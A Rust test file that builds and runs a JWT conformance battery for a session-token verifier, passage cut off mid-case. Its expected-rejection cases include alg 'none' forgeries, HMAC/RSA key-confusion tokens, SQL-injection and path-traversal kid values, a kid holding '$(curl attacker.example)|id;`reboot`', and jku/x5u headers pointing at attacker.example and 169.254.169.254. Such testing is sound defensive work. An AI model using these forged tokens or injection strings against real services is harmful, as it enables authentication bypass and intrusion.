//! The bad-input battery, `conformance/battery.json`: one data file of tokens, verifier
//! options and exact expected outcomes covering spec/security.md §1, meant to be run
//! unchanged by every binding (Rust here; C, Go and Node later). Its format is described in
//! the file itself (`format`) and in `conformance/README.md`.
//!
//! Two tests:
//! - `battery_runs_on_the_core` is the core's runner: it reads only the data file and the key
//!   files it names, exactly as another language's runner would.
//! - `battery_file_is_generated` regenerates the file from this generator (deterministic:
//!   RSA PKCS#1 v1.5, Ed25519 and HMAC are deterministic; ECDSA and PSS use a fixed "random"
//!   input) and fails if the committed file differs. After changing the generator, run
//!   `SESSIONJWT_BLESS=1 cargo test -p sessionjwt --test battery` and review the diff.
//!
//! The expected outcome of every case is written here by hand from the catalog, never
//! computed by running the core.

mod common;

use base64ct::{Base64, Encoding};

fn encode<E: Encoding>(b: &[u8]) -> String {
    let mut out = vec![0u8; b.len() * 4 / 3 + 4];
    E::encode(b, &mut out).unwrap().to_owned()
}

fn decode<E: Encoding>(s: &str) -> Vec<u8> {
    let mut out = vec![0u8; s.len()];
    let n = E::decode(s, &mut out).unwrap().len();
    out.truncate(n);
    out
}
use common::{add_big_endian, b64url as b64, pem_der as der, sig_of, sub_big_endian, with_sig};
use serde_json::{json, Map, Value};
use sessionjwt::{AlgorithmSet, Error, Limits, UnixTimeMs, Verifier};
use std::path::{Path, PathBuf};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..")
}

const BATTERY: &str = "conformance/battery.json";

// ---- the runner (reads only the data) -------------------------------------------------------

/// The catalog category of an error (spec/security.md's outcome vocabulary).
fn category(e: Error) -> &'static str {
    use Error::*;
    match e {
        TokenTooLarge | SegmentCount | InvalidCharacter | Padding | Base64 | InvalidUtf8
        | JsonSyntax | InvalidEscape | JsonTooDeep | DuplicateMember | TooManyMembers
        | NotAnObject | InvalidHeaderField => "malformed",
        InvalidType | InvalidCategory | CritUnsupported => "invalid_header",
        AlgMissing | AlgNotAllowed | AlgKeyFamilyMismatch | KeyAlgMismatch | UnknownAlgorithm => {
            "alg_not_allowed"
        }
        KidNotFound | KidMissing | NoKey => "key_not_found",
        InvalidSignature | NoCryptoProvider => "bad_signature",
        InvalidSubject | InvalidExpiration | InvalidNotBefore | InvalidIssuedAt => "invalid_claim",
        AudienceMismatch | AudienceMissing => "aud_mismatch",
        AuthorizedPartyMismatch | AuthorizedPartyMissing => "azp_mismatch",
        IssuerMismatch => "iss_mismatch",
        Expired => "expired",
        NotYetValid => "not_yet_valid",
        IssuedInFuture => "iat_in_future",
        _ => "invalid_key",
    }
}

fn strings(v: &Value) -> Vec<&str> {
    v.as_array()
        .map(|a| a.iter().map(|s| s.as_str().expect("string")).collect())
        .unwrap_or_default()
}

/// Builds the verifier a case describes (a preset name or an inline object).
fn build(spec: &Value, file: &Value) -> Result<Verifier, Error> {
    let spec = match spec {
        Value::String(name) => &file["verifiers"][name.as_str()],
        inline => inline,
    };
    assert!(spec.is_object(), "verifier {spec}");
    let mut b = Verifier::builder();
    for name in strings(&spec["keys"]) {
        let key = &file["keys"][name];
        if let Some(path) = key["pem_file"].as_str() {
            b.add_pem(&std::fs::read(root().join(path)).expect("key file"))?;
        } else if let Some(secret) = key["hmac_secret_b64"].as_str() {
            b.add_hmac_secret(&decode::<Base64>(secret))?;
        } else if let Some(text) = key["jwks_text"].as_str() {
            b.add_jwks(text.as_bytes())?;
        } else if let Some(text) = key["jwk_text"].as_str() {
            b.add_jwk(text.as_bytes())?;
        } else {
            panic!("key {name}: {key}");
        }
    }
    if spec.get("algorithms").is_some() {
        b.algorithms(AlgorithmSet::parse_list(
            &strings(&spec["algorithms"]).join(","),
        )?);
    }
    for p in strings(&spec["authorized_parties"]) {
        b.authorized_party(p)?;
    }
    for a in strings(&spec["audiences"]) {
        b.audience(a)?;
    }
    for i in strings(&spec["issuers"]) {
        b.issuer(i)?;
    }
    for t in strings(&spec["header_types"]) {
        b.header_type(t)?;
    }
    if let Some(skew) = spec["clock_skew_ms"].as_i64() {
        b.clock_skew_ms(skew);
    }
    let mut limits = Limits::DEFAULT;
    if let Some(n) = spec["max_token_bytes"].as_u64() {
        limits.max_token_bytes = n as usize;
    }
    if let Some(n) = spec["max_json_depth"].as_u64() {
        limits.max_json_depth = n as usize;
    }
    b.limits(limits)?;
    b.build()
}

/// The token bytes of a case: `token` (text), `token_b64` (standard base64 of raw bytes) or
/// `token_repeat` (`prefix` + `unit` x `count` + `suffix`).
fn token(case: &Value) -> Vec<u8> {
    if let Some(t) = case["token"].as_str() {
        t.as_bytes().to_vec()
    } else if let Some(t) = case["token_b64"].as_str() {
        decode::<Base64>(t)
    } else {
        let r = &case["token_repeat"];
        let mut t = r["prefix"].as_str().unwrap_or("").to_owned();
        t.push_str(
            &r["unit"]
                .as_str()
                .unwrap()
                .repeat(r["count"].as_u64().unwrap() as usize),
        );
        t.push_str(r["suffix"].as_str().unwrap_or(""));
        t.into_bytes()
    }
}

/// Runs one case; `Err` describes a mismatch.
fn run_case(case: &Value, file: &Value) -> Result<(), String> {
    let expect = &case["expect"];
    let now = case["now_ms"]
        .as_i64()
        .or(file["now_ms"].as_i64())
        .expect("now_ms");
    let outcome = build(&case["verifier"], file)
        .map_err(|e| ("build", e))
        .and_then(|v| {
            let mut buf = vec![0u8; v.limits().buffer_len()];
            v.verify(&token(case), UnixTimeMs(now), &mut buf)
                .map(|t| t.subject().chars().collect::<String>())
                .map_err(|e| ("verify", e))
        });
    match (outcome, expect["result"].as_str()) {
        (Ok(sub), Some("ok")) => match expect["sub"].as_str() {
            Some(want) if want != sub => Err(format!("sub {sub:?}, expected {want:?}")),
            _ => Ok(()),
        },
        (Err((stage, e)), Some("error")) => {
            let want = (
                expect["stage"].as_str(),
                expect["code"].as_str(),
                expect["reason"].as_str(),
                expect["number"].as_u64(),
                expect["category"].as_str(),
            );
            let got = (
                Some(stage),
                Some(e.code()),
                Some(e.reason()),
                Some(u64::from(e.number())),
                Some(category(e)),
            );
            if want == got {
                Ok(())
            } else {
                Err(format!("got {got:?}, expected {want:?}"))
            }
        }
        (got, _) => Err(format!("got {got:?}, expected {expect}")),
    }
}

fn load() -> Value {
    let text = std::fs::read_to_string(root().join(BATTERY)).expect("conformance/battery.json");
    serde_json::from_str(&text).expect("battery JSON")
}

#[test]
fn battery_runs_on_the_core() {
    let file = load();
    let cases = file["cases"].as_array().unwrap();
    let mut failures = vec![];
    let mut ids = std::collections::HashSet::new();
    for case in cases {
        let id = case["id"].as_str().unwrap();
        assert!(ids.insert(id), "duplicate case id {id}");
        if let Err(why) = run_case(case, &file) {
            failures.push(format!("{id}: {why}"));
        }
    }
    println!("battery: {} cases", cases.len());
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(cases.len() >= 150);
}

// ---- the generator ----------------------------------------------------------------------------

use ring::signature::{self, EcdsaKeyPair, Ed25519KeyPair, KeyPair, RsaKeyPair};
#[allow(deprecated)]
use ring::test::rand::FixedByteRandom;

const NOW_MS: i64 = 1_666_648_250_000;
const NOW: i64 = NOW_MS / 1000;
const APP: &str = "https://app.example.com";
const ISS: &str = "https://clerk.example.com";
const HMAC_SECRET: &[u8; 32] = b"battery-hmac-secret-32-bytes-ok!";

fn data(name: &str) -> String {
    std::fs::read_to_string(root().join("core/tests/data").join(name)).unwrap()
}

/// A standard payload valid at NOW, plus `extra` members.
fn p(extra: &str) -> String {
    let sep = if extra.is_empty() { "" } else { "," };
    format!(
        r#"{{"sub":"user_2battery","sid":"sess_1","iat":{NOW},"nbf":{},"exp":{}{sep}{extra}}}"#,
        NOW - 10,
        NOW + 60
    )
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}

struct Gen {
    rsa: RsaKeyPair,
    attacker: RsaKeyPair,
    ec: EcdsaKeyPair,
    ed: Ed25519KeyPair,
    cases: Vec<Value>,
}

enum Tok {
    Text(String),
    Bytes(Vec<u8>),
    Repeat(&'static str, usize),
}

impl Gen {
    #[allow(deprecated)]
    fn new() -> Gen {
        let rng = FixedByteRandom { byte: 1 };
        Gen {
            rsa: RsaKeyPair::from_pkcs8(&der(&data("battery-rsa2048-private.pem"))).unwrap(),
            attacker: RsaKeyPair::from_pkcs8(&der(&data("rsa4096-private.pem"))).unwrap(),
            ec: EcdsaKeyPair::from_pkcs8(
                &signature::ECDSA_P256_SHA256_FIXED_SIGNING,
                &der(&data("battery-ec-p256-private.pem")),
                &rng,
            )
            .unwrap(),
            ed: Ed25519KeyPair::from_pkcs8_maybe_unchecked(&der(&data(
                "battery-ed25519-private.pem",
            )))
            .unwrap(),
            cases: vec![],
        }
    }

    #[allow(deprecated)]
    fn rsa_sign(k: &RsaKeyPair, alg: &str, msg: &[u8]) -> Vec<u8> {
        let enc: &dyn signature::RsaEncoding = match alg {
            "RS384" => &signature::RSA_PKCS1_SHA384,
            "RS512" => &signature::RSA_PKCS1_SHA512,
            "PS256" => &signature::RSA_PSS_SHA256,
            _ => &signature::RSA_PKCS1_SHA256,
        };
        let mut sig = vec![0u8; k.public().modulus_len()];
        k.sign(enc, &FixedByteRandom { byte: 2 }, msg, &mut sig)
            .unwrap();
        sig
    }

    /// Signs `header.payload` (texts, base64url-encoded here) with the battery key of `alg`.
    #[allow(deprecated)]
    fn sign(&self, alg: &str, h: &[u8], p: &[u8]) -> String {
        let input = format!("{}.{}", b64(h), b64(p));
        let sig = match alg {
            "ES256" => self
                .ec
                .sign(&FixedByteRandom { byte: 3 }, input.as_bytes())
                .unwrap()
                .as_ref()
                .to_vec(),
            "EdDSA" => self.ed.sign(input.as_bytes()).as_ref().to_vec(),
            "HS256" => hmac(HMAC_SECRET, input.as_bytes()),
            _ => Gen::rsa_sign(&self.rsa, alg, input.as_bytes()),
        };
        format!("{input}.{}", b64(&sig))
    }

    fn rs(&self, h: &str, p: &str) -> String {
        self.sign("RS256", h.as_bytes(), p.as_bytes())
    }

    fn ed(&self, p: &str) -> String {
        self.sign("EdDSA", br#"{"alg":"EdDSA","typ":"JWT"}"#, p.as_bytes())
    }

    fn attacker_rs(&self, h: &str, p: &str) -> String {
        let input = format!("{}.{}", b64(h.as_bytes()), b64(p.as_bytes()));
        let sig = Gen::rsa_sign(&self.attacker, "RS256", input.as_bytes());
        format!("{input}.{}", b64(&sig))
    }

    fn rsa_modulus(&self) -> Vec<u8> {
        signature::RsaPublicKeyComponents::<Vec<u8>>::from(self.rsa.public()).n
    }

    fn add(
        &mut self,
        id: &str,
        section: &str,
        title: &str,
        verifier: Value,
        tok: Tok,
        expect: Result<Option<&str>, (&str, Error)>,
    ) {
        let mut c = Map::new();
        c.insert("id".into(), id.into());
        c.insert("section".into(), section.into());
        c.insert("title".into(), title.into());
        c.insert("verifier".into(), verifier);
        match tok {
            Tok::Text(t) => {
                c.insert("token".into(), t.into());
            }
            Tok::Bytes(b) => {
                c.insert("token_b64".into(), encode::<Base64>(&b).into());
            }
            Tok::Repeat(unit, count) => {
                c.insert("token_repeat".into(), json!({"unit": unit, "count": count}));
            }
        }
        let expect = match expect {
            Ok(None) => json!({"result": "ok", "category": "ok"}),
            Ok(Some(sub)) => json!({"result": "ok", "category": "ok", "sub": sub}),
            Err((stage, e)) => json!({
                "result": "error", "stage": stage, "code": e.code(), "reason": e.reason(),
                "number": e.number(), "category": category(e),
            }),
        };
        c.insert("expect".into(), expect);
        self.cases.push(Value::Object(c));
    }

    fn at(&mut self, now_ms: i64) {
        self.cases.last_mut().unwrap()["now_ms"] = now_ms.into();
    }
}

fn hmac(secret: &[u8], msg: &[u8]) -> Vec<u8> {
    ring::hmac::sign(&ring::hmac::Key::new(ring::hmac::HMAC_SHA256, secret), msg)
        .as_ref()
        .to_vec()
}

fn hs_with(secret: &[u8], h: &str, p: &str) -> String {
    let input = format!("{}.{}", b64(h.as_bytes()), b64(p.as_bytes()));
    format!("{input}.{}", b64(&hmac(secret, input.as_bytes())))
}

fn v(name: &str) -> Value {
    Value::String(name.into())
}

const OK: Result<Option<&str>, (&str, Error)> = Ok(None);

fn e(err: Error) -> Result<Option<&'static str>, (&'static str, Error)> {
    Err(("verify", err))
}

fn build_err(err: Error) -> Result<Option<&'static str>, (&'static str, Error)> {
    Err(("build", err))
}

fn generate() -> Value {
    use Error::*;
    use Tok::*;
    let mut g = Gen::new();
    let rsa_pem = data("battery-rsa2048-public.pem");
    let pkcs1_pem = data("battery-rsa2048-public-pkcs1.pem");
    let n = g.rsa_modulus();
    let ec_point = g.ec.public_key().as_ref().to_vec();
    let mut off_curve_y = ec_point[33..].to_vec();
    off_curve_y[31] ^= 1;
    let std_p = p("");

    // ---- §1.1 algorithm handling
    for alg in ["none", "None", "NONE", "nOnE"] {
        let h = format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#);
        let hp = format!("{}.{}", b64(h.as_bytes()), b64(std_p.as_bytes()));
        g.add(
            &format!("alg_{alg}_empty_signature"),
            "1.1",
            "alg none, forged payload, empty signature",
            v("rsa"),
            Text(format!("{hp}.")),
            e(AlgNotAllowed),
        );
        let copied = b64(&sig_of(&g.rs(r#"{"alg":"RS256","typ":"JWT"}"#, &std_p)));
        g.add(
            &format!("alg_{alg}_copied_signature"),
            "1.1",
            "alg none with a copied genuine signature",
            v("rsa"),
            Text(format!("{hp}.{copied}")),
            e(AlgNotAllowed),
        );
        g.add(
            &format!("alg_{alg}_two_segments"),
            "1.1",
            "alg none without the trailing dot",
            v("rsa"),
            Text(hp),
            e(SegmentCount),
        );
    }
    g.add(
        "alg_none_listed_in_allowlist",
        "1.1",
        "the caller puts none in the allow-list: a configuration error",
        json!({"keys": ["rsa2048"], "algorithms": ["RS256", "none"]}),
        Text(g.rs(r#"{"alg":"RS256"}"#, &std_p)),
        build_err(UnknownAlgorithm),
    );
    // The allow-list comes before key selection (security.md §0, step 5 before 6): `none`
    // is refused whatever the kid says, also against a key set. A bad typ still comes first
    // (Clerk's order, spec §1.2: typ, then alg).
    for (id, header, verifier, expect) in [
        (
            "jwks_no_kid",
            r#"{"alg":"none"}"#,
            "jwks_two",
            AlgNotAllowed,
        ),
        (
            "jwks_unknown_kid",
            r#"{"alg":"none","kid":"ins_unknown"}"#,
            "jwks_two",
            AlgNotAllowed,
        ),
        (
            "bad_typ",
            r#"{"alg":"none","typ":"at+jwt"}"#,
            "rsa",
            InvalidType,
        ),
    ] {
        g.add(
            &format!("alg_none_{id}"),
            "1.1",
            "alg none: refused before kid selection, after typ",
            v(verifier),
            Text(format!(
                "{}.{}.",
                b64(header.as_bytes()),
                b64(std_p.as_bytes())
            )),
            e(expect),
        );
    }
    for alg in ["RS512", "PS256", "RS384"] {
        let t = g.sign(
            alg,
            format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#).as_bytes(),
            std_p.as_bytes(),
        );
        g.add(
            &format!("alg_{alg}_outside_allowlist"),
            "1.1",
            "genuine signature, alg not in the default allow-list (RS256)",
            v("rsa"),
            Text(t.clone()),
            e(AlgNotAllowed),
        );
        g.add(
            &format!("alg_{alg}_listed"),
            "1.1",
            "the same token with the alg listed",
            json!({"keys": ["rsa2048"], "algorithms": ["RS256", alg]}),
            Text(t),
            OK,
        );
    }
    for (id, alg) in [
        ("lowercase", r#""rs256""#),
        ("trailing_space", r#""RS256 ""#),
        ("embedded_nul", r#""RS256\u0000""#),
        ("empty", r#""""#),
    ] {
        g.add(
            &format!("alg_spelling_{id}"),
            "1.1",
            "alg spelling tricks are exact, case-sensitive names",
            v("rsa"),
            Text(g.rs(&format!(r#"{{"alg":{alg}}}"#), &std_p)),
            e(AlgNotAllowed),
        );
    }
    for (id, h) in [
        ("missing", r#"{"typ":"JWT"}"#),
        ("array", r#"{"alg":["RS256"]}"#),
        ("null", r#"{"alg":null}"#),
        ("number", r#"{"alg":256}"#),
    ] {
        g.add(
            &format!("alg_{id}"),
            "1.1",
            "alg missing or not a string",
            v("rsa"),
            Text(g.rs(h, &std_p)),
            e(AlgMissing),
        );
    }
    g.add(
        "alg_missing_and_bad_typ",
        "1.1",
        "no alg and typ at+jwt: typ is checked first, as in Clerk",
        v("rsa"),
        Text(g.rs(r#"{"typ":"at+jwt"}"#, &std_p)),
        e(InvalidType),
    );
    g.add(
        "alg_es256_with_rsa_key",
        "1.1",
        "allow-list RS256+ES256, RSA key, ES256 token by another key: the key decides the family",
        json!({"keys": ["rsa2048"], "algorithms": ["RS256", "ES256"]}),
        Text(g.sign("ES256", br#"{"alg":"ES256"}"#, std_p.as_bytes())),
        e(AlgKeyFamilyMismatch),
    );
    let hs_h = r#"{"alg":"HS256","typ":"JWT"}"#;
    let jwk_text = format!(r#"{{"kty":"RSA","n":"{}","e":"AQAB"}}"#, b64(&n));
    let trimmed = rsa_pem.trim_end().to_owned();
    let leading = format!("\n{rsa_pem}");
    let spki_der = der(&rsa_pem);
    for (id, key) in [
        ("exact_pem", rsa_pem.as_bytes()),
        ("pem_without_final_newline", trimmed.as_bytes()),
        ("pem_with_leading_newline", leading.as_bytes()),
        ("pkcs1_pem", pkcs1_pem.as_bytes()),
        ("der_spki", &spki_der[..]),
        ("jwk_json", jwk_text.as_bytes()),
        ("raw_modulus", &n[..]),
    ] {
        g.add(
            &format!("confusion_hs256_keyed_with_{id}"),
            "1.1",
            "HS256 MAC'd with the RSA public key's bytes",
            v("rsa"),
            Text(hs_with(key, hs_h, &std_p)),
            e(AlgNotAllowed),
        );
    }
    g.add(
        "confusion_hs256_allowed_but_key_is_rsa",
        "1.1",
        "HS256 explicitly allowed, key is RSA: the key decides",
        json!({"keys": ["rsa2048"], "algorithms": ["RS256", "HS256"]}),
        Text(hs_with(rsa_pem.as_bytes(), hs_h, &std_p)),
        e(AlgKeyFamilyMismatch),
    );
    g.add(
        "confusion_hs256_keyed_with_ec_point",
        "1.1",
        "ES256 key configured, HS256 MAC'd with 04||X||Y",
        v("ec"),
        Text(hs_with(&ec_point, hs_h, &std_p)),
        e(AlgNotAllowed),
    );

    // ---- §1.2 key selection and header injection
    let k1 = r#"{"alg":"RS256","kid":"k1"}"#;
    g.add(
        "jwks_kid_selects_key",
        "1.2",
        "control: kid selects the right key of two",
        v("jwks_two"),
        Text(g.rs(k1, &std_p)),
        OK,
    );
    g.add(
        "jwks_missing_kid_two_keys",
        "1.2",
        "no kid with two keys: never try every key",
        v("jwks_two"),
        Text(g.rs(r#"{"alg":"RS256"}"#, &std_p)),
        e(KidMissing),
    );
    g.add(
        "jwks_unknown_kid",
        "1.2",
        "unknown kid",
        v("jwks_two"),
        Text(g.rs(r#"{"alg":"RS256","kid":"ins_unknown"}"#, &std_p)),
        e(KidNotFound),
    );
    g.add(
        "jwks_kid_case_changed",
        "1.2",
        "upper-cased kid",
        v("jwks_two"),
        Text(g.rs(r#"{"alg":"RS256","kid":"K1"}"#, &std_p)),
        e(KidNotFound),
    );
    g.add(
        "jwks_kid_not_a_string",
        "1.2",
        "kid:1",
        v("jwks_two"),
        Text(g.rs(r#"{"alg":"RS256","kid":1}"#, &std_p)),
        e(InvalidHeaderField),
    );
    g.add(
        "kid_path_traversal_hs256_empty_key",
        "1.2",
        "kid ../../dev/null MAC'd with the empty key",
        v("rsa"),
        Text(hs_with(
            b"",
            r#"{"alg":"HS256","kid":"../../../../../../dev/null"}"#,
            &std_p,
        )),
        e(AlgNotAllowed),
    );
    g.add(
        "kid_sql_injection_hs256",
        "1.2",
        "kid SQL injection, MAC'd with the injected secret",
        v("rsa"),
        Text(hs_with(
            b"attacker-secret",
            r#"{"alg":"HS256","kid":"x' UNION SELECT 'attacker-secret' -- "}"#,
            &std_p,
        )),
        e(AlgNotAllowed),
    );
    g.add(
        "kid_sql_injection_rs256_attacker",
        "1.2",
        "kid ' OR '1'='1 signed by the attacker",
        v("jwks_two"),
        Text(g.attacker_rs(r#"{"alg":"RS256","kid":"' OR '1'='1"}"#, &std_p)),
        e(KidNotFound),
    );
    g.add(
        "kid_shell_metacharacters_genuine",
        "1.2",
        "kid with $(...), pipe, ; and backticks on a genuine token: inert",
        v("rsa"),
        Text(g.rs(
            r#"{"alg":"RS256","kid":"$(curl attacker.example)|id;`reboot`"}"#,
            &std_p,
        )),
        OK,
    );
    g.add(
        "kid_3000_chars",
        "1.2",
        "very long kid",
        v("jwks_two"),
        Text(g.rs(
            &format!(r#"{{"alg":"RS256","kid":"{}"}}"#, "k".repeat(3000)),
            &std_p,
        )),
        e(KidNotFound),
    );
    let attacker_jwk = format!(
        r#"{{"kty":"RSA","n":"{}","e":"AQAB"}}"#,
        b64(&signature::RsaPublicKeyComponents::<Vec<u8>>::from(g.attacker.public()).n)
    );
    g.add(
        "embedded_jwk_pem_mode",
        "1.2",
        "header jwk = attacker key, attacker-signed",
        v("rsa"),
        Text(g.attacker_rs(
            &format!(r#"{{"alg":"RS256","jwk":{attacker_jwk}}}"#),
            &std_p,
        )),
        e(InvalidSignature),
    );
    g.add(
        "embedded_jwk_jwks_mode",
        "1.2",
        "header jwk = attacker key, attacker-signed, kid of a real key",
        v("jwks_two"),
        Text(g.attacker_rs(
            &format!(r#"{{"alg":"RS256","kid":"k1","jwk":{attacker_jwk}}}"#),
            &std_p,
        )),
        e(InvalidSignature),
    );
    for (id, h) in [
        (
            "jku",
            r#"{"alg":"RS256","jku":"https://attacker.example/jwks.json"}"#,
        ),
        (
            "x5u",
            r#"{"alg":"RS256","x5u":"http://169.254.169.254/latest/meta-data"}"#,
        ),
        (
            "x5c",
            r#"{"alg":"RS256","x5c":["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]}"#,
        ),
    ] {
        g.add(
            &format!("{id}_attacker_signed"),
            "1.2",
            "key URL / certificate in the header is never consulted",
            v("rsa"),
            Text(g.attacker_rs(h, &std_p)),
            e(InvalidSignature),
        );
    }
    g.add(
        "jku_on_genuine_token",
        "1.2",
        "jku present on a genuine token: ignored",
        v("rsa"),
        Text(g.rs(
            r#"{"alg":"RS256","jku":"https://attacker.example/jwks.json"}"#,
            &std_p,
        )),
        OK,
    );
    g.add(
        "jwks_duplicate_kid",
        "1.2",
        "two different keys with the same kid",
        v("jwks_dup_kid"),
        Text(g.rs(k1, &std_p)),
        e(KidNotFound),
    );
    g.add(
        "jwks_key_use_enc",
        "1.2",
        "the only key with kid k1 is use:enc",
        v("jwks_enc"),
        Text(g.rs(k1, &std_p)),
        e(KidNotFound),
    );
    g.add(
        "jwks_key_ops_without_verify",
        "1.2",
        "the only key with kid k1 has key_ops [encrypt]",
        v("jwks_ops_encrypt"),
        Text(g.rs(k1, &std_p)),
        e(KidNotFound),
    );
    g.add("jwks_mixed_oct_and_rsa", "1.2", "a set mixing an HMAC secret with an RSA key never verifies HMAC: HS256 MAC'd with the secret, kid of the secret", json!({"keys": ["jwks_mixed"], "algorithms": ["RS256", "HS256"]}), Text(hs_with(HMAC_SECRET, r#"{"alg":"HS256","kid":"k2"}"#, &std_p)), e(AlgKeyFamilyMismatch));
    g.add(
        "jwks_mixed_rsa_still_verifies",
        "1.2",
        "control: the RSA key of the mixed set verifies",
        json!({"keys": ["jwks_mixed"], "algorithms": ["RS256", "HS256"]}),
        Text(g.rs(k1, &std_p)),
        OK,
    );
    g.add(
        "jwks_key_alg_rs512_header_rs256",
        "1.2",
        "the JWK pins RS512; header RS256 (CVE-2026-48523)",
        json!({"keys": ["jwks_pinned_rs512"], "algorithms": ["RS256", "RS512"]}),
        Text(g.rs(k1, &std_p)),
        e(KeyAlgMismatch),
    );

    // ---- §1.3 header parameters
    for (id, h) in [
        (
            "unknown_extension",
            r#"{"alg":"RS256","crit":["x-policy"],"x-policy":"require-mfa"}"#,
        ),
        ("registered_claim", r#"{"alg":"RS256","crit":["exp"]}"#),
        ("empty", r#"{"alg":"RS256","crit":[]}"#),
        ("string", r#"{"alg":"RS256","crit":"x-policy"}"#),
        ("b64_false", r#"{"alg":"RS256","b64":false,"crit":["b64"]}"#),
    ] {
        g.add(
            &format!("crit_{id}"),
            "1.3",
            "any crit is refused (no extension is implemented)",
            v("rsa"),
            Text(g.rs(h, &std_p)),
            e(CritUnsupported),
        );
    }
    g.add(
        "b64_false_without_crit",
        "1.3",
        "b64:false without crit is ignored",
        v("rsa"),
        Text(g.rs(r#"{"alg":"RS256","b64":false}"#, &std_p)),
        OK,
    );
    g.add(
        "typ_at_jwt",
        "1.3",
        "an access-token typ given to the session verifier",
        v("rsa"),
        Text(g.rs(r#"{"alg":"RS256","typ":"at+jwt"}"#, &std_p)),
        e(InvalidType),
    );
    g.add(
        "typ_null",
        "1.3",
        "typ null",
        v("rsa"),
        Text(g.rs(r#"{"alg":"RS256","typ":null}"#, &std_p)),
        e(InvalidType),
    );
    g.add(
        "typ_missing_when_configured",
        "1.3",
        "headerType configured, typ missing",
        json!({"keys": ["rsa2048"], "header_types": ["at+jwt"]}),
        Text(g.rs(r#"{"alg":"RS256"}"#, &std_p)),
        e(InvalidType),
    );
    g.add(
        "typ_configured_matches",
        "1.3",
        "headerType at+jwt, typ at+jwt",
        json!({"keys": ["rsa2048"], "header_types": ["at+jwt"]}),
        Text(g.rs(r#"{"alg":"RS256","typ":"at+jwt"}"#, &std_p)),
        OK,
    );
    g.add(
        "zip_def_on_jws",
        "1.3",
        "zip:DEF on a JWS: nothing is decompressed",
        v("rsa"),
        Text(g.rs(r#"{"alg":"RS256","zip":"DEF"}"#, &std_p)),
        OK,
    );
    g.add(
        "cat_machine_to_machine",
        "1.3",
        "Clerk's M2M token category",
        v("rsa"),
        Text(g.rs(r#"{"alg":"RS256","cat":"cl_B7d4PD333AAA"}"#, &std_p)),
        e(InvalidCategory),
    );

    // ---- §1.4 signatures
    let rs_h = r#"{"alg":"RS256","typ":"JWT"}"#;
    let genuine = g.rs(rs_h, &std_p);
    g.add(
        "rs256_genuine",
        "1.4",
        "control: a genuine RS256 token",
        v("rsa"),
        Text(genuine.clone()),
        Ok(Some("user_2battery")),
    );
    g.add(
        "rs256_wrong_key",
        "1.4",
        "signed by another RSA key",
        v("rsa"),
        Text(g.attacker_rs(rs_h, &std_p)),
        e(InvalidSignature),
    );
    let (gh, gp) = genuine.split_once('.').unwrap();
    let gs = genuine.rsplit('.').next().unwrap();
    let flipped = b64(std_p.replace("user_2battery", "user_2admin00").as_bytes());
    g.add(
        "rs256_tampered_payload",
        "1.4",
        "sub flipped under the original signature",
        v("rsa"),
        Text(format!("{gh}.{flipped}.{gs}")),
        e(InvalidSignature),
    );
    let _ = gp;
    g.add(
        "rs256_tampered_header",
        "1.4",
        "kid added under the original signature",
        v("rsa"),
        Text(format!(
            "{}.{}.{gs}",
            b64(br#"{"alg":"RS256","typ":"JWT","kid":"x"}"#),
            b64(std_p.as_bytes())
        )),
        e(InvalidSignature),
    );
    let sig = sig_of(&genuine);
    let mut appended = sig.clone();
    appended.push(0);
    let mut prepended = vec![0u8];
    prepended.extend(&sig);
    let zero = vec![0u8; n.len()];
    let mut one = zero.clone();
    *one.last_mut().unwrap() = 1;
    let n_minus_1 = sub_big_endian(&n, &one);
    let s_plus_n = add_big_endian(&sig, &n);
    for (id, s) in [
        ("empty", vec![]),
        ("255_octets", sig[1..].to_vec()),
        ("prepended_zero", prepended),
        ("appended_zero", appended),
        ("zero", zero.clone()),
        ("one", one.clone()),
        ("n_minus_1", n_minus_1),
        ("n", n.clone()),
        ("s_plus_n", s_plus_n),
    ] {
        g.add(
            &format!("rsa_signature_{id}"),
            "1.4",
            "RSA signature of the wrong length or out of range",
            v("rsa"),
            Text(with_sig(&genuine, &s)),
            e(InvalidSignature),
        );
    }
    // A genuine signature whose first octet is 0, sent as k-1 octets (jti found by search).
    let zero_lead = (0..)
        .map(|i| g.rs(rs_h, &p(&format!(r#""jti":"z{i}""#))))
        .find(|t| sig_of(t)[0] == 0)
        .unwrap();
    g.add(
        "rsa_leading_zero_stripped",
        "1.4",
        "a genuine signature starting with 00, sent as k-1 octets: strict, one encoding per token",
        v("rsa"),
        Text(with_sig(&zero_lead, &sig_of(&zero_lead)[1..])),
        e(InvalidSignature),
    );
    g.add(
        "rsa_leading_zero_genuine",
        "1.4",
        "control: the same token with all k octets",
        v("rsa"),
        Text(zero_lead),
        OK,
    );
    let rs512_sig = sig_of(&g.sign("RS512", rs_h.as_bytes(), std_p.as_bytes()));
    let ps256_sig = sig_of(&g.sign("PS256", rs_h.as_bytes(), std_p.as_bytes()));
    g.add(
        "rs256_header_rs512_signature",
        "1.4",
        "RS256 header over an RS512 signature",
        v("rsa"),
        Text(with_sig(&genuine, &rs512_sig)),
        e(InvalidSignature),
    );
    g.add(
        "rs256_header_pss_signature",
        "1.4",
        "RS256 header over a PSS signature",
        v("rsa"),
        Text(with_sig(&genuine, &ps256_sig)),
        e(InvalidSignature),
    );

    let es_h = r#"{"alg":"ES256","typ":"JWT"}"#;
    let es = g.sign("ES256", es_h.as_bytes(), std_p.as_bytes());
    g.add(
        "es256_genuine",
        "1.4",
        "control: a genuine ES256 token",
        v("ec"),
        Text(es.clone()),
        OK,
    );
    let order = unhex("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551");
    let es_sig = sig_of(&es);
    let (r, s) = es_sig.split_at(32);
    let one32 = {
        let mut o = vec![0u8; 32];
        o[31] = 1;
        o
    };
    let cat = |a: &[u8], b: &[u8]| [a, b].concat();
    for (id, bad) in [
        ("all_zero", vec![0u8; 64]),
        ("r_zero", cat(&[0u8; 32], s)),
        ("s_zero", cat(r, &[0u8; 32])),
        ("r_s_n", cat(&order, &order)),
        ("r_s_one", cat(&one32, &one32)),
    ] {
        g.add(
            &format!("es256_psychic_{id}"),
            "1.4",
